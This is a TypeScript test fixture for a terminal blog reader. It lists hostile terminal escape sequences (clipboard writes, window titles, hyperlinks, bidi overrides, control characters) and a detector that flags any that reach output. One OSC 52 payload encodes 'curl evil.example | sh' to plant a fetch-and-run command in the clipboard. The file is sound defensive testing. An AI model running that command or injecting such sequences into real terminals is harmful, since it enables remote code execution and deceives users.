/*
What a hostile blog puts in its titles, names, posts and comments to take over a reader's terminal:
escape sequences of every family (CSI, OSC — window title, clipboard, hyperlinks —, DCS, APC, PM, SOS),
their 8-bit C1 forms, bare C0 and C1 controls, DEL, bidirectional overrides and isolates, and carriage
returns that would overwrite a line. Each is written raw (in JSON it travels as `\u001b`), and as
HTML/XML numeric character references (`&#27;`, `&#x1b;`, `&#x9d;`), which a parser turns back into the
raw character.

`findSmuggled` says whether any of it reached an output.
*/

const ESC = '\u001B';
const BEL = '\u0007';
const ST = `${ESC}\\`;

export type HostileInput = {
	/** Short, for messages: "OSC 52 clipboard write". */
	readonly name: string;
	readonly text: string;
};

/** Every attack, in one list. Those that may be left unterminated come last: cleaned, they take the rest of their string with them. */
export const hostileInputs: readonly HostileInput[] = [
	{name: 'CSI colour (SGR): 256-colour, blink, reset', text: `${ESC}[38;5;201m${ESC}[5mblinking magenta${ESC}[m`},
	{name: 'CSI cursor up and erase line', text: `${ESC}[2A${ESC}[2K${ESC}[1;1H`},
	{name: 'CSI private mode: leave the alternate screen, hide the cursor', text: `${ESC}[?1049l${ESC}[?25l`},
	{name: 'CSI device status report (asks the terminal to type)', text: `${ESC}[6n${ESC}[c`},
	{name: 'OSC 0 window title, ended by BEL', text: `${ESC}]0;pwned title${BEL}`},
	{name: 'OSC 2 window title, ended by ST', text: `${ESC}]2;pwned title${ST}`},
	{name: 'OSC 52 clipboard write', text: `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}${BEL}`},
	{name: 'OSC 8 hyperlink', text: `${ESC}]8;;https://evil.example/${ST}innocent link${ESC}]8;;${ST}`},
	{name: 'OSC 4 palette change', text: `${ESC}]4;1;rgb:00/00/00${BEL}`},
	{name: 'DCS (DECRQSS)', text: `${ESC}P$qm${ST}`},
	{name: 'DCS tmux passthrough', text: `${ESC}Ptmux;${ESC}${ESC}]0;inner title${BEL}${ST}`},
	{name: 'APC (kitty graphics)', text: `${ESC}_Gf=100,a=T;AAAA${ST}`},
	{name: 'PM', text: `${ESC}^privacy message${ST}`},
	{name: 'SOS', text: `${ESC}Xstart of string${ST}`},
	{name: 'ESC c: full reset', text: `${ESC}c`},
	{name: 'ESC 7 / ESC 8: save and restore the cursor', text: `${ESC}7moved${ESC}8`},
	{name: 'ESC ( 0: line-drawing character set', text: `${ESC}(0lqqk${ESC}(B`},
	{name: 'ESC ESC', text: `${ESC}${ESC}[7m`},
	{name: '8-bit CSI', text: '\u009B31mred\u009B0m'},
	{name: 'C1 controls: NEL, IND, RI, HTS, SS2, SS3', text: '\u0085\u0084\u008D\u0088\u008E\u008F'},
	{name: 'C0 controls: NUL, BEL, BS, VT, FF, SO, SI, SUB', text: '\u0000\u0007\u0008\u000B\u000C\u000E\u000F\u001A'},
	{name: 'DEL', text: 'de\u007Fl'},
	{name: 'CR overwriting a line', text: 'Safe text\rEVIL'},
	{name: 'CR LF', text: 'one\r\ntwo'},
	{name: 'bidi override (RLO) hiding an extension', text: 'invoice\u202Efdp.exe'},
	{name: 'bidi embeddings and override: LRE, RLE, PDF, LRO', text: '\u202Aa\u202Bb\u202Cc\u202Dd'},
	{name: 'bidi isolates: LRI, RLI, FSI, PDI', text: '\u2066a\u2067b\u2068c\u2069'},
	// As references, ST (U+009C) becomes “œ” (HTML maps &#x9c; to windows-1252) and these two never end.
	{name: '8-bit OSC', text: '\u009D0;8-bit title\u009C'},
	{name: '8-bit DCS, SOS, PM, APC', text: '\u0090dcs\u009C\u0098sos\u009C\u009Epm\u009C\u009Fapc\u009C'},
	{name: 'CSI without a final byte', text: `${ESC}[`},
	{name: 'OSC never ended', text: `${ESC}]0;a title that never ends`},
	{name: 'lone ESC at the end', text: ESC},
];

/** Characters a terminal acts on: C0 but newline (and tab), DEL, C1, bidi overrides and isolates. Carriage return included. */
const controlCharacter = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

/** Every character of `text` that is a control, written as a numeric character reference. */
function withReferences(text: string, form: 'decimal' | 'hex'): string {
	return [...text].map(character => {
		if (!controlCharacter.test(character)) return character;
		const code = character.codePointAt(0)!;
		return form === 'decimal' ? `&#${code};` : `&#x${code.toString(16)};`;
	}).join('');
}

/** HTML `&`, `<`, `>`, `"` escaped (the text of an attack must reach the parser as text, not as tags). */
export function escapeHtml(text: string): string {
	return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
}

/**
 * The whole corpus in one string, for one field: each attack raw, then as decimal references, then as
 * hex references, each after a visible label (`[h3]`, `[h3d]`, `[h3x]`). `markup` says whether the field
 * is HTML/XML (the references are decoded there); in a plain-text field they are written out raw instead.
 */
export function hostileField(label: string, options: {readonly markup: boolean}): string {
	const parts = hostileInputs.map((input, index) => {
		const raw = input.text;
		if (!options.markup) return `[${label}${index}] ${raw}`;
		return `[${label}${index}] ${escapeRaw(raw)} [${label}${index}d] ${withReferences(escapeRaw(raw), 'decimal')} [${label}${index}x] ${withReferences(escapeRaw(raw), 'hex')}`;
	});
	return parts.join(' ');
}

/** In markup, `<` and `&` in an attack are text. */
function escapeRaw(text: string): string {
	return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
}

/**
 * C1 controls that HTML's numeric references do NOT map to windows-1252 characters (`&#x9b;` becomes
 * `›`, but `&#x9d;` stays U+009D, the 8-bit OSC): written as references in an HTML body.
 */
export const unmappedC1References = '&#x81;&#x8d;&#x8f;&#x90;&#x9d; &#144;&#157;';

export type Smuggled = {readonly index: number; readonly character: string; readonly context: string};

/** Anything a terminal acts on, but newline and tab. */
const smuggledCharacter = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/u;

/**
 * The first character in `output` that a hostile server could have smuggled in (ESC, any other C0 but
 * newline and tab, DEL, C1, a bidi control, a carriage return), with where it is; undefined when none.
 */
export function findSmuggled(output: string): Smuggled | undefined {
	const match = smuggledCharacter.exec(output);
	if (!match) return undefined;
	const index = match.index;
	return {index, character: `U+${match[0].codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`, context: JSON.stringify(output.slice(Math.max(0, index - 40), index + 40))};
}

/**
 * blogterm's own SGR codes, as print mode writes them with colour (source/render/ansi.ts, colours from
 * source/render/theme.ts): bold, dim, italic, underline, the theme's colours, reset. Nothing in the
 * corpus looks like one of these.
 */
export const blogtermSgr = /\u001B\[(?:[0-4]|3[0-7]|90)(?:;(?:[0-4]|3[0-7]|90))*m/g;

/** Fails with where and what, when `output` holds anything smuggled. */
export function assertNothingSmuggled(output: string, where: string): void {
	const found = findSmuggled(output);
	if (found) throw new Error(`${where}: ${found.character} at ${found.index}: ${found.context}`);
}
